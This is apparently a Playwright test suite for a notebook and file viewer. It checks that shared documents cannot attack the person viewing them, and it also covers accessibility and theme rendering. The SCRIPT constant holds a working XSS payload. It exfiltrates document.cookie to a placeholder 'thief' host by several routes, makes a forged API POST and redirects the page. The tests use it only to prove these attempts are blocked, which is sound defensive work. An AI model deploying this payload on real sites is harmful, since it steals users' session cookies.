"""What a file of another person's can do to its reader in the viewer."""

import json
from collections.abc import Callable, Generator

import pytest
from cygnet_share.viewer.document import Document
from playwright.sync_api import BrowserContext, Page, expect

from tests.support import attack, share_pages
from tests.support.lab import keep
from tests.support.viewer_site import Site, viewer_site

# What a script tries that has the page's own rights.
SCRIPT = """<script>
  const report = what => navigator.sendBeacon("{thief}/beacon/" + what);
  localStorage.setItem("a", "b");
  report(document.cookie);
  fetch("/hub/api/user", {{method: "POST"}});
  fetch("{thief}/fetch?" + document.cookie);
  new Image().src = "{thief}/image?" + document.cookie;
  new WebSocket("{thief}/socket".replace("http", "ws"));
  const form = document.createElement("form");
  form.action = "{thief}/form";
  form.method = "POST";
  form.target = "_blank";
  document.documentElement.append(form);
  form.submit();
  window.open("{thief}/popup");
  (window.top ?? window).location = "{thief}/top";
</script>"""
DIRECT = (
    "everything",
    "refresh",
    "form",
    "base",
    "script",
    "drawing",
    "style of a page",
    "prefetch",
    "frame",
    "media",
)
"""Which of them are opened by their own address, one after the other."""
NewContext = Callable[..., BrowserContext]


@pytest.fixture(scope="module")
def site() -> Generator[Site]:
    with viewer_site() as it:
        texts = dict(attack.snippets(it.thief))
        texts["everything"] = SCRIPT.format(thief=it.thief)
        for name, text in texts.items():
            ending = ".svg" if name == "drawing" else ".md"
            it.add(name, Document(f"{attack.PATH}{ending}", text.encode()))
        yield it


@pytest.fixture
def page(site: Site, new_context: NewContext) -> Page:
    site.forget()
    return new_context().new_page()


def load(page: Page, address: str) -> None:
    page.goto(address, wait_until="networkidle")


@pytest.mark.parametrize("way", ["shown", "bare"])
def test_page_of_the_viewer_asks_for_nothing(site: Site, page: Page, way: str) -> None:
    for name in DIRECT:
        load(page, f"{site.address}/{way}/{site.end(name)}")

        assert page.url.startswith(site.address)
        assert len(page.context.pages) == 1

    assert (site.stolen, site.asked) == ([], [])


@pytest.mark.parametrize("way", ["shown", "bare"])
def test_framed_page_of_the_viewer_asks_for_nothing(
    site: Site, page: Page, way: str
) -> None:
    load(page, site.framed(way))

    assert site.served == site.documents.keys()
    assert page.url == site.framed(way)
    assert (site.stolen, site.asked) == ([], [])


def test_notebook_of_all_attacks_asks_for_nothing(site: Site, page: Page) -> None:
    cells = [
        cell
        for _, text in attack.snippets(site.thief)
        for cell in json.loads(attack.notebook(text))["cells"]
    ]
    whole = {"nbformat": 4, "nbformat_minor": 5, "cells": cells, "metadata": {}}
    document = Document(f"{attack.PATH}.ipynb", json.dumps(whole).encode())

    end = site.add("notebook", document)
    load(page, f"{site.address}/shown/{end}")

    del site.documents[end]
    expect(page.get_by_role("group", name="Cell 4, raw")).to_be_visible()
    assert (site.stolen, site.asked) == ([], [])


def test_lists_and_comparisons_of_all_attacks_ask_for_nothing(
    site: Site, page: Page
) -> None:
    texts = [text for _, text in attack.snippets(site.thief)]
    site.pages.update(share_pages.hostile([*texts, SCRIPT.format(thief=site.thief)]))

    for name in ("shares", "versions", "changes", "added", "removed", "changed"):
        load(page, f"{site.address}/list/{name}")

        expect(page.get_by_text("navigator.sendBeacon").first).to_be_attached()
        assert page.url.startswith(site.address)
    assert (site.stolen, site.asked) == ([], [])


def test_attacks_succeed_where_nothing_protects(site: Site, page: Page) -> None:
    # Without this, the tests above could be of attacks that never work.
    load(page, site.framed("open"))
    framed = {it.partition("?")[0] for it in site.stolen}
    site.forget()
    load(page, f"{site.address}/open/{site.end('everything')}")

    assert {"/script", "/img", "/style", "/onerror", "/svg-script"} <= framed
    assert len(framed) >= 20
    assert "/fetch?session=secret" in site.stolen
    assert "/hub/api/user" in site.asked
    assert page.url == f"{site.thief}/top"


def test_link_to_another_file_is_followed_with_the_login(
    site: Site, new_context: NewContext
) -> None:
    page = new_context().new_page()
    end = site.add("walk", Document("a/first.md", b"[the other](../b/second.md)"))
    other = site.add("walk", Document("b/second.md", b"# Second"))
    # As JupyterHub sets its own.
    page.context.add_cookies(
        [{"name": "login", "value": "a", "url": site.address, "sameSite": "Lax"}]
    )
    load(page, f"{site.address}/shown/{end}")

    page.get_by_role("link", name="the other").click()

    expect(page.get_by_role("heading", name="Second", exact=True)).to_be_visible()
    del site.documents[end], site.documents[other]
    assert site.cookies[-1] == "login=a"


def test_viewer_is_read_by_keyboard_and_in_the_dark(
    site: Site, new_context: NewContext
) -> None:
    page = new_context().new_page()
    document = Document("plots/flights.ipynb", sample())
    end = site.add("sample", document)
    load(page, f"{site.address}/shown/{end}")
    del site.documents[end]

    expect(page.get_by_role("heading", level=1, name="flights.ipynb")).to_be_visible()
    expect(page.get_by_role("table").first).to_be_visible()
    keep(page, "viewer-notebook")
    page.emulate_media(color_scheme="dark")
    keep(page, "viewer-notebook", theme="dark")
    page.set_viewport_size({"width": 360, "height": 740})
    keep(page, "viewer-notebook-narrow")
    width = page.evaluate("document.documentElement.scrollWidth")

    assert width <= 360
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("main")).to_be_focused()
    outline = page.get_by_role("navigation", name="Outline")
    outline.get_by_role("link", name="Delays").click()
    assert page.url.endswith("#at-Delays")


def sample() -> bytes:
    """Give a notebook with one of everything."""
    picture = (
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6"
        "kgAAAABJRU5ErkJggg=="
    )
    text = "# Flights\n\nHow late, in $\\frac{1}{n}\\sum_i d_i$?\n\n|a|b|\n|-|-|\n|1|2|"
    table = "<table><tr><th>month</th><th>delay</th></tr>"
    table += "<tr><td>1</td><td style='color: red'>12.5</td></tr></table>"
    colours = "".join(f"\x1b[{it}m{it} \x1b[0m" for it in (*range(30, 38), 91, 94))
    outputs = [
        {"output_type": "stream", "name": "stdout", "text": f"{colours}\n{'x' * 300}"},
        {"output_type": "display_data", "data": {attack.SPARK: attack.panel("count")}},
        {"output_type": "display_data", "data": {"text/html": table}},
        {"output_type": "display_data", "data": {"image/png": picture}},
        {
            "output_type": "error",
            "ename": "ValueError",
            "evalue": "no",
            "traceback": ["\x1b[0;31mValueError\x1b[0m: no"],
        },
    ]
    code = "import pandas as pd\n\n\n@cache\ndef load(path: str) -> None:\n"
    code += '    """Load."""\n    return pd.read_csv(path)[3:]  # Slow.'
    cells = [
        {"cell_type": "markdown", "source": text},
        {"cell_type": "code", "source": code, "execution_count": 7, "outputs": outputs},
        {"cell_type": "markdown", "source": "## Delays\n\n- one\n- two\n\n> quoted"},
    ]
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    metadata = {"kernelspec": kernel}
    whole = {"nbformat": 4, "nbformat_minor": 5, "cells": cells, "metadata": metadata}
    return json.dumps(whole).encode()


@pytest.mark.parametrize(
    "name", ["shares", "shares-empty", "versions", "changes", "comparison"]
)
def test_page_is_calm_in_each_theme_and_width(
    site: Site, new_context: NewContext, name: str
) -> None:
    page = new_context().new_page()
    site.pages.update(share_pages.sample())
    load(page, f"{site.address}/list/{name}")

    expect(page.get_by_role("main")).to_be_visible()
    expect(page.get_by_role("heading", level=1)).to_have_count(1)
    keep(page, f"share-{name}")
    page.emulate_media(color_scheme="dark")
    keep(page, f"share-{name}", theme="dark")
    page.set_viewport_size({"width": 360, "height": 740})
    keep(page, f"share-{name}-narrow")

    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
